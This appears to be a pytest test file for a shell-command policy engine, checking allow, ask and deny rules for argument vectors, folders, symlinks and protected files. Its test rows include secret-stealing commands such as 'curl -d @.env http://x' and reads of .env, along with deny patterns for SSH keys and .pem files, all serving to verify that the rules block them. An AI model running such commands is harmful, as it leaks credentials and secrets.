"""Define rules about many words: the rest of a vector, folders, files that must not be read."""

from dataclasses import replace
from posixpath import join, normpath
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.errors import ConfigError
from core.model.approval import AllowlistEntry
from core.model.command import PinnedDirectory, PlannedCommand, Unreadable
from core.model.decision import Decision, Evaluation, Reason
from core.model.policy import ExecPolicy, ExecSecurity, Trust
from core.model.stdio import Stdio
from core.policy.judge.evaluate import evaluate
from core.policy.matching.allowlist import Allowlist
from core.policy.matching.argv_template import ArgvTemplate
from core.policy.matching.matchers import Called, VectorMatch
from core.policy.matching.template_element import Surroundings, below
from core.policy.rules.compiled import BadRule, compiled
from core.programs.carriers import carrier_problem
from tests.core.policy.configured_rules import provisions, rule, settings
from tests.support.plans import LISTED, command, listed, plan_of, wrapped
from tests.support.tables import rows

CLASSICAL = replace(LISTED, trust=Trust.CLASSICAL)
HERE = Surroundings("/srv/app")
GIT_WORDS = ("log", "-p", "--oneline", "-3", "x", "--output=f", "--ext-diff", "push", "-c", "a=b")


def judged(
    line: str | PlannedCommand, *rules: dict[str, Any], policy: ExecPolicy = LISTED, **more: Any
) -> Evaluation:
    """Judge one command of /usr/bin, wrappers unwrapped, under rules and no list."""
    planned = wrapped(*line.split()) if isinstance(line, str) else line
    return evaluate(plan_of(planned), policy, listed(), provisions=provisions(*rules, **more))


@pytest.mark.parametrize(
    ("line", "wanted"),
    [
        ("git log", Decision.ALLOW),
        ("git log --oneline -3", Decision.ALLOW),
        ("git log --output=f", Decision.ASK),
        ("git log -3 --ext-diff", Decision.ASK),
        ("git push", Decision.ASK),
        ("git -p log", Decision.ASK),
    ],
)
def test_the_rest_is_judged_by_the_programs_profile(line: str, wanted: Decision) -> None:
    """`git log <REST>` allows what reads, and no option that writes or runs something."""
    found = judged(line, rule("allow", "git", "log", "<REST>"))
    assert found.decision is wanted
    assert (found.reason is Reason.RULE_ALLOWED) is (wanted is Decision.ALLOW)


def test_the_rest_is_free_under_classical_trust_and_where_the_rule_says_so() -> None:
    """Classical trust takes the owner's prefix; <REST:any> does so under strict trust too."""
    kept, free = rule("allow", "make", "<REST>"), rule("allow", "make", "<REST:any>")
    assert judged("make all", kept).decision is Decision.ASK
    assert judged("make all", kept, policy=CLASSICAL).decision is Decision.ALLOW
    assert judged("make all -j4", free).decision is Decision.ALLOW
    assert judged("make", free).decision is Decision.ALLOW


def test_the_rest_of_an_unknown_program_is_not_allowed() -> None:
    """No profile says what its words do, so only <REST:any> allows them."""
    unknown = command("zyzzyva", "x", path="/usr/local/bin/zyzzyva")
    assert judged(unknown, rule("allow", "zyzzyva", "<REST>")).decision is Decision.ASK
    assert judged(unknown, rule("allow", "zyzzyva", "<REST:any>")).decision is Decision.ALLOW


def test_a_required_operand_must_be_there() -> None:
    """`tr -d` alone asks as it does where tr is listed."""
    allowed = rule("allow", "tr", "<REST>")
    assert judged("tr -d", allowed).decision is Decision.ASK
    assert judged("tr -d x", allowed).decision is Decision.ALLOW


def test_both_names_of_a_program_must_be_harmless() -> None:
    """A link called cat that leads to git is judged as both."""
    linked = command("cat", "push", path="/usr/bin/cat", realpath="/usr/bin/git")
    assert judged(linked, rule("allow", "cat", "<REST>")).decision is Decision.ASK
    assert judged("cat push", rule("allow", "cat", "<REST>")).decision is Decision.ALLOW


@pytest.mark.parametrize("word", ["a\nb", "a\0", "\x1b[2J", "a\u202eb"])
def test_a_free_rest_takes_no_control_characters(word: str) -> None:
    """What a terminal would obey or hide was not meant by the rule."""
    assert judged(command("make", word), rule("allow", "make", "<REST:any>")).decision is (
        Decision.ASK
    )
    assert judged(command("make", "-f"), rule("allow", "make", "<REST:any>")).decision is (
        Decision.ALLOW
    )


def test_a_free_rest_lifts_neither_inline_code_nor_wrappers() -> None:
    """A prefix for python3 does not cover `-c`, nor one for env what env runs."""
    free = (rule("allow", "python3", "<REST:any>"), rule("allow", "env", "<REST:any>"))
    assert judged("python3 -c x", *free).decision is Decision.ASK
    assert judged("env rm x", *free).decision is Decision.ASK
    assert judged("python3 x.py", *free).decision is Decision.ALLOW


def test_a_rest_that_forbids_takes_anything() -> None:
    """Control characters and options are forbidden like everything else."""
    denied = rule("deny", "git", "push", "<REST>")
    for words in ((), ("-f",), ("a\nb", "\0")):
        assert judged(command("git", "push", *words), denied).decision is Decision.DENY
    assert judged("git log", denied).decision is Decision.ASK


def test_words_from_standard_input_are_part_of_the_rest() -> None:
    """`xargs cat` is covered if every further word is harmless, `xargs git log` is not."""
    assert judged("xargs cat", rule("allow", "cat", "<REST>")).decision is Decision.ALLOW
    assert judged("xargs git log", rule("allow", "git", "log", "<REST>")).decision is Decision.ASK
    assert judged("xargs make", rule("allow", "make", "<REST:any>")).decision is Decision.ASK


def test_an_open_rule_says_nothing_of_standard_input() -> None:
    """`python3 -` would read its program from there."""
    plan = replace(plan_of(command("tee", "x")), stdio=Stdio(stdin=b"x"))
    for element, wanted in (("<REST:any>", Decision.ASK), ("x", Decision.ALLOW)):
        held = provisions(rule("allow", "tee", element))
        assert evaluate(plan, LISTED, listed(), provisions=held).decision is wanted


def test_another_rule_may_allow_what_the_profile_does_not_know() -> None:
    """A rule whose rest is not harmless does not hide a wider one behind it."""
    rules = (rule("allow", "git", "<REST>"), rule("allow", "git", "push", "<REST:any>"))
    assert judged("git push -f", *rules).decision is Decision.ALLOW
    assert judged("git fetch", *rules).decision is Decision.ASK


@given(st.lists(st.sampled_from(GIT_WORDS), max_size=5))
def test_the_rest_allows_nothing_that_strict_trust_would_ask_about(words: list[str]) -> None:
    """Oracle: the carrier tables, for the whole vector."""
    found = judged(command("git", *words), rule("allow", "git", "<REST>"))
    harmless = carrier_problem("/usr/bin/git", words) is None
    assert (found.decision is Decision.ALLOW) is harmless


@given(st.lists(st.text(max_size=3), max_size=4))
def test_what_an_open_template_takes_it_also_forbids(words: list[str]) -> None:
    """A rule that forbids is about every vector that the same rule would allow."""
    for rest in ("<REST>", "<REST:any>"):
        template = ArgvTemplate.of_rule(["<GLOB:a*>", rest])
        assert template.may_fit(words, HERE) or not template.fits(words, HERE)


def test_the_rest_stands_last() -> None:
    """What follows it could never match."""
    with pytest.raises(ConfigError, match="last element"):
        ArgvTemplate.of_rule(["git", "<REST>", "x"])


@pytest.mark.parametrize(
    ("argv", "words", "wanted"),
    [
        (("log", "<REST>"), ("log", "-3"), Decision.ALLOW),
        (("log", "<REST>"), ("log", "--output=f"), Decision.ASK),
        (("push", "<REST:any>"), ("push", "-f"), Decision.ALLOW),
        (("add", "<GLOB:src/*>"), ("add", "src/a"), Decision.ALLOW),
        (("add", "<GLOB:src/*>"), ("add", "-f"), Decision.ASK),
    ],
)
def test_an_entry_of_the_allowlist_takes_the_same(
    argv: tuple[str, ...], words: tuple[str, ...], wanted: Decision
) -> None:
    """Entries with argv are read as rules are."""
    entries = Allowlist([AllowlistEntry("/usr/bin/git", argv=argv)], "/home/alice")
    assert evaluate(plan_of(command("git", *words)), LISTED, entries).decision is wanted


def test_an_entry_for_a_rest_is_free_under_classical_trust() -> None:
    """As a rule is."""
    entries = Allowlist([AllowlistEntry("/usr/bin/make", argv=("<REST>",))], "/home/alice")
    plan = plan_of(command("make", "all"))
    assert evaluate(plan, CLASSICAL, entries).decision is Decision.ALLOW
    assert evaluate(plan, LISTED, entries).decision is Decision.ASK


def there(planned: PlannedCommand, folder: str) -> PlannedCommand:
    """Return a command that runs in another folder."""
    return replace(planned, cwd=PinnedDirectory(folder, 1, 1))


@pytest.mark.parametrize(
    ("folder", "wanted"),
    [
        ("/srv/app", Decision.ALLOW),
        ("/srv/app/sub", Decision.ALLOW),
        ("/srv/apple", Decision.ASK),
        ("/srv", Decision.ASK),
        ("/", Decision.ASK),
    ],
)
def test_a_rule_that_allows_holds_in_its_folder_only(folder: str, wanted: Decision) -> None:
    """Vectors with and without templates, patterns and effects alike."""
    bound = (
        rule("allow", "make", "all", cwd="/srv/app"),
        rule("allow", "make", "<NAME>", cwd="/srv/app"),
        rule("allow", glob="/usr/bin/cal", cwd="/srv/app"),
        rule("allow", effect="writes", cwd="/srv/app"),
    )
    for words, one in zip(("make all", "make all", "cal", "cp a b"), bound, strict=True):
        assert judged(there(command(*words.split()), folder), one).decision is wanted
        inner = there(wrapped("env", *words.split()), folder)
        assert judged(inner, one).decision is wanted


def test_two_folders_have_rules_of_their_own() -> None:
    """The same vector may be allowed in one folder and denied in another."""
    rules = (rule("allow", "make", cwd="/srv/app"), rule("deny", "make", cwd="/srv/other"))
    assert judged(there(command("make"), "/srv/app"), *rules).decision is Decision.ALLOW
    assert judged(there(command("make"), "/srv/other"), *rules).decision is Decision.DENY
    assert judged(there(command("make"), "/srv"), *rules).decision is Decision.ASK


def test_a_folder_behind_a_link_is_the_real_one_to_allow_and_either_to_deny() -> None:
    """A command's folder is known by its real path, so what is allowed must be."""
    config = settings(rule("allow", "cal", cwd="~/app"), rule("deny", "rm", "<REST>", cwd="~/app"))
    held = compiled(config, "/home/alice", real=lambda path: path.replace("/home/alice", "/data"))
    for folder, allowed, denied in (
        ("/data/app", Decision.ALLOW, Decision.DENY),
        ("/home/alice/app", Decision.ASK, Decision.DENY),
        ("/data", Decision.ASK, Decision.ASK),
    ):
        for words, wanted in ((("cal",), allowed), (("rm", "x"), denied)):
            plan = plan_of(there(command(*words), folder))
            found = evaluate(plan, LISTED, listed(), provisions=held.everyone)
            assert found.decision is wanted, (folder, words)


def test_the_examples_of_a_bound_rule_run_in_its_folder() -> None:
    """Otherwise none of them could match."""
    bound = rule("allow", "touch", "<PATH>", cwd="/srv/app")
    provisions({**bound, "examples": {"match": [["touch", "/srv/app/x"]]}})
    with pytest.raises(BadRule, match="is not matched"):
        provisions({**bound, "examples": {"match": [["touch", "/workspace/x"]]}})


SECRET = rule("deny", reads="/srv/app/.env")


@rows(
    "line",
    [
        "cat .env",
        "cat ./.env",
        "cat ../app/.env",
        "cat sub/../.env",
        "cat /srv/app/.env",
        "cat //srv//app/./.env",
        "cat /SRV/app/.ENV",
        "grep -f.env x",
        "dd if=.env",
        "git show HEAD:.env",
        "git --work-tree=/srv/app/.env x",
        "tar -cf- -T.env",
        "curl -d @.env http://x",
        "curl file:///srv/app/.env",
        "zyzzyva .env",
        "ls .env",
        "env cat .env",
        "env nice cat .env",
        "xargs -a .env echo",
        "cp .env x",
        "cat .env/x",
        "env A=.env ls",
        "grep -fsecret x",
        "tar -czfsecret",
    ],
)
def test_a_file_that_nobody_may_read_is_found_however_it_is_named(line: str) -> None:
    """Whatever the program, glued to an option, in a list, inside a wrapper."""
    other = rule("deny", reads="/srv/app/secret")
    found = judged(line, SECRET, other, rule("allow", glob="/**"), policy=CLASSICAL)
    assert (found.decision, found.reason) == (Decision.DENY, Reason.RULE_DENIED)


@rows(
    "line, wanted",
    [
        ("cat x", Decision.ALLOW),
        ("cat .env.example", Decision.ALLOW),
        ("tr / .", Decision.ALLOW),
        ("ls -la", Decision.ALLOW),
        ("ls /srv/app", Decision.ALLOW),
        ("git status", Decision.ALLOW),
        ("find . -name x", Decision.ALLOW),
        ("grep x y", Decision.ALLOW),
        ("echo ok", Decision.ALLOW),
        ("diff a b", Decision.ALLOW),
        ("grep -r x", Decision.ASK),
        ("grep -nr x src", Decision.ASK),
        ("grep --recurs x", Decision.ASK),
        ("git status -v", Decision.ASK),
        ("git diff", Decision.ASK),
        ("find . -exec cat x ;", Decision.ASK),
        ("diff . b", Decision.ASK),
        ("make", Decision.ASK),
        ("zyzzyva", Decision.ASK),
        ("cp -r /srv x", Decision.ASK),
        ("mv /srv/app y", Decision.ASK),
        ("xargs cat", Decision.ASK),
        ("wc --files0-from=x", Decision.ASK),
        ("cat ~root/x", Decision.ASK),
        ("cat /proc/self/cwd/x", Decision.ASK),
    ],
)
def test_what_goes_through_a_folder_above_asks(line: str, wanted: Decision) -> None:
    """Programs that print no contents, or of named files only, do not."""
    found = judged(line, SECRET, rule("allow", glob="/**"), policy=CLASSICAL)
    assert found.decision is wanted
    without = judged(line, rule("allow", glob="/**"), policy=CLASSICAL)
    assert without.decision is Decision.ALLOW or "-exec" in line


@pytest.mark.parametrize(
    "line",
    [
        "zcat .en",
        "zcat -S v .en",
        "zcat -r sub",
        "jq -n 'import \"./secret\" as $s; $s'",
        "jq -n 'include \"secret\"; f'",
        "jq -f x.jq a.json",
        "jq -L sub . a.json",
    ],
)
def test_a_program_that_completes_names_may_read_anything(line: str) -> None:
    """Suffixes that zcat adds and modules that jq loads ask where they may be below."""
    assert judged(line, SECRET, rule("allow", glob="/**"), policy=CLASSICAL).decision is (
        Decision.ASK
    )
    plain = judged("jq .a a.json", SECRET, rule("allow", glob="/**"), policy=CLASSICAL)
    assert plain.decision is Decision.ALLOW


def test_elsewhere_nothing_is_asked() -> None:
    """A program in another folder reads nothing of this one, as far as its words say."""
    for words in (("make",), ("git", "diff"), ("grep", "-r", "x")):
        elsewhere = there(command(*words), "/srv/other")
        found = judged(elsewhere, SECRET, rule("allow", glob="/**"), policy=CLASSICAL)
        assert found.decision is Decision.ALLOW


def test_a_namesake_in_the_work_tree_may_read_anything() -> None:
    """`./ls` is another program than the one that prints names only."""
    ours = command("./ls", path="/srv/app/ls")
    assert judged(ours, SECRET, rule("allow", glob="/**"), policy=CLASSICAL).decision is (
        Decision.ASK
    )


def test_a_link_to_such_a_file_is_one() -> None:
    """If the planner found that a word leads there, or to more places than it looks up."""
    linked = replace(command("cat", "x"), links=(("/srv/app/x", "/srv/app/.env"),))
    assert judged(linked, SECRET).decision is Decision.DENY
    other = replace(command("cat", "x"), links=(("/srv/app/part", "/srv/app/.env"),))
    assert judged(other, SECRET).decision is Decision.DENY
    many = replace(command("cat", "x"), links=(("/srv/app/x", ""),))
    assert judged(many, SECRET, rule("allow", glob="/**")).decision is Decision.ASK


@rows(
    "pattern, named, wanted",
    [
        ("~/.ssh/**", "/home/alice/.ssh/id", Decision.DENY),
        ("~/.ssh", "/home/alice/.ssh/id", Decision.DENY),
        ("~/.ssh/id_*", "~/.ssh/id_rsa", Decision.DENY),
        ("/**/.env", "/a/b/.env", Decision.DENY),
        ("/**/.env", ".env", Decision.DENY),
        ("/**/*.pem", "keys/x.pem", Decision.DENY),
        ("/srv/*/secret", "../b/secret", Decision.DENY),
        ("/srv/*/secret", "a/secret", Decision.ALLOW),
        ("~/.ssh/**", "/home/alice/.sshd", Decision.ALLOW),
    ],
)
def test_a_pattern_of_files_covers_what_lies_below(
    pattern: str, named: str, wanted: Decision
) -> None:
    """Home counts if a program expands it itself."""
    denied = rule("deny", reads=pattern)
    found = judged(command("cat", named), denied, rule("allow", glob="/**"))
    assert found.decision is wanted


def test_a_file_behind_a_link_counts_by_both_names() -> None:
    """The literal beginning of a pattern is looked up when the rules are read."""
    config = settings(rule("deny", reads="~/app/**/.env"), rule("allow", glob="/**"))
    held = compiled(config, "/home/alice", real=lambda path: path.replace("/home/alice", "/data"))
    for named in ("/home/alice/app/x/.env", "/data/app/x/.env"):
        plan = plan_of(command("cat", named))
        found = evaluate(plan, LISTED, listed(), provisions=held.everyone)
        assert found.decision is Decision.DENY


def test_a_line_that_only_a_shell_can_read_asks() -> None:
    """It may read the file in ways that no word shows."""
    held = provisions(SECRET)
    shelled = plan_of(command("/bin/sh", "-c", "x $(y)"), unreadable=Unreadable("R7", "x"))
    full = replace(LISTED, security=ExecSecurity.FULL)
    assert evaluate(shelled, full, listed(), provisions=held).decision is Decision.ASK
    assert evaluate(plan_of(command("cat", ".env")), full, listed(), provisions=held).decision is (
        Decision.DENY
    )


def test_a_rule_that_asks_about_a_file_asks() -> None:
    """It is not a denial, and what goes through the folder asks as well."""
    asked = rule("ask", reads="/srv/app/.env")
    for line in ("cat .env", "grep -r x"):
        assert judged(line, asked, rule("allow", glob="/**")).reason is Reason.RULE_ASKED


def test_a_command_of_many_words_is_asked_about() -> None:
    """What cannot be searched in a short time is not let through."""
    for words in ("a:" * 9_000, "a:" * 5_000):
        long = command("echo", words)
        found = judged(long, SECRET, rule("allow", glob="/**"))
        assert found.decision is Decision.ASK
        assert judged(long, rule("allow", glob="/**")).decision is Decision.ALLOW


@given(st.lists(st.sampled_from(["..", ".", "srv", "app", ".env", "x", ""]), max_size=6))
def test_no_spelling_of_a_path_is_missed(parts: list[str]) -> None:
    """Oracle: posixpath."""
    word = "/".join(parts)
    path = normpath(join("/srv/app", word)).replace("//", "/")
    found = judged(command("cat", word), SECRET, rule("allow", glob="/**"))
    assert (found.decision is Decision.DENY) is below("/srv/app/.env", path)


@pytest.mark.parametrize(
    ("bad", "words"),
    [
        (rule("allow", reads="/srv/x"), "ask or deny"),
        (rule("deny", reads=".env"), "not absolute|base name"),
        (rule("deny", reads="/srv/../x"), "can never match"),
        (rule("deny", reads="/srv/"), "can never match"),
    ],
)
def test_a_file_rule_that_cannot_be_right_stops_the_load(bad: dict[str, Any], words: str) -> None:
    """The text says what to write."""
    with pytest.raises(BadRule, match=words):
        provisions(bad)


_IN_PLACE = Called("python3", "/usr/bin/python3", "/usr/bin/python3.11")
_ELSEWHERE = Called("/home/a/bin/python3", "/home/a/bin/python3", "/home/a/bin/python3")
_BY_LINK = Called("/opt/tool", "/opt/tool", "/usr/bin/python3.11")


@rows(
    "head, program, to_forbid, to_allow",
    [
        ("python3", _IN_PLACE, True, True),
        ("python3", _ELSEWHERE, True, False),
        ("python3.11", _IN_PLACE, True, False),
        ("python3.11", _BY_LINK, True, False),
        ("PYTHON3", _IN_PLACE, True, False),
        ("perl", _IN_PLACE, False, False),
        ("/usr/bin/python3", _IN_PLACE, True, True),
        ("/bin/python3", _IN_PLACE, True, True),
        ("/usr/bin/python3.11", _BY_LINK, True, True),
        ("/usr/bin/python3", _ELSEWHERE, False, False),
    ],
)
def test_which_programs_a_rule_names(
    head: str, program: Called, *, to_forbid: bool, to_allow: bool
) -> None:
    """A bare name allows what the search path finds, and forbids whatever may have that name."""
    template = ArgvTemplate.of_rule([head, "<REST:any>"])

    assert VectorMatch(template, allows=False).names(program) is to_forbid
    assert VectorMatch(template, allows=True).names(program) is to_allow
